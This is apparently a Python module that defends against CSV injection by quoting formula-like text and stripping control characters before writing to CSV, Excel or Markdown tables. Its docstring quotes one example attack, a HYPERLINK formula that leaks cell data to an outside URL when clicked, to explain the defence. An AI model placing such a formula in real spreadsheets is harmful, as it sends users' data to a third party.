"""Text from untrusted documents made safe for where gongkai writes it: spreadsheets (CSV and
Excel), Markdown tables. (For a terminal or a one-line report, see `files.shown`.)

Agency names, file names and printed cell texts come from documents and websites nobody
vetted. In a spreadsheet, text starting with =, +, -, @, a tab or a carriage return can be
taken for a formula (OWASP "CSV injection": `=HYPERLINK("http://…?leak="&A1, …)` sends the
sheet's data away when clicked); such text gets a leading apostrophe, the quote prefix that
makes a spreadsheet keep it as text. Only text is touched: numbers (a negative one too) stay
numbers. Excel files cannot hold most control characters at all (openpyxl refuses them, XML
forbids them), and a CSV field is one line of plain text, so control characters are dropped.
"""

from __future__ import annotations

import re
from typing import Any

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from .files import shown

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
QUOTE_PREFIX = "'"

# What an Excel file cannot hold: the C0 controls openpyxl refuses (all but tab, line feed and
# carriage return), and what XML forbids besides (lone surrogates, U+FFFE, U+FFFF), which
# would otherwise fail only when the workbook is saved.
_NOT_XLSX = re.compile(f"{ILLEGAL_CHARACTERS_RE.pattern}|[\ud800-\udfff\ufffe\uffff]")
# In a CSV field: every C0/C1 control goes, a run of line breaks and tabs becoming one space.
_CSV_CONTROLS = re.compile("[\x00-\x08\x0e-\x1b\x1f\x7f-\x84\x86-\x9f]")
_CSV_BREAKS = re.compile("[\t\n\v\f\r\x1c-\x1e\x85\u2028\u2029]+")
_MARKDOWN_BREAKS = re.compile("\r\n|[\n\v\f\r\x1c-\x1e\x85\u2028\u2029]")


def defuse(text: str) -> str:
    """Text that a spreadsheet cannot take for a formula: a quote prefix before =, +, -, @, tab, CR."""
    return QUOTE_PREFIX + text if text.startswith(FORMULA_START) else text


def xlsx_clean(text: str) -> str:
    """Text without the characters an Excel file cannot hold (for sheet names, comments, links)."""
    return _NOT_XLSX.sub("", text)


def xlsx_text(text: str) -> str:
    """Text for an Excel cell: storable, and never a formula."""
    return defuse(xlsx_clean(text))


def csv_text(text: str) -> str:
    """Text for a CSV field: one line, no control characters, and never a formula."""
    return defuse(_CSV_BREAKS.sub(" ", _CSV_CONTROLS.sub("", text)))


def csv_value(value: Any) -> Any:
    """A CSV field: text made safe (`csv_text`), anything else as it is."""
    return csv_text(value) if isinstance(value, str) else value


def markdown_cell(text: str) -> str:
    """Text for a Markdown table cell: backslashes and pipes escaped so that the row keeps its
    columns, line breaks as <br>, other control, bidi and zero-width characters shown escaped
    (`files.shown`) as on a terminal."""
    text = _MARKDOWN_BREAKS.sub("<br>", text.replace("\\", "\\\\").replace("|", "\\|"))
    return shown(text)
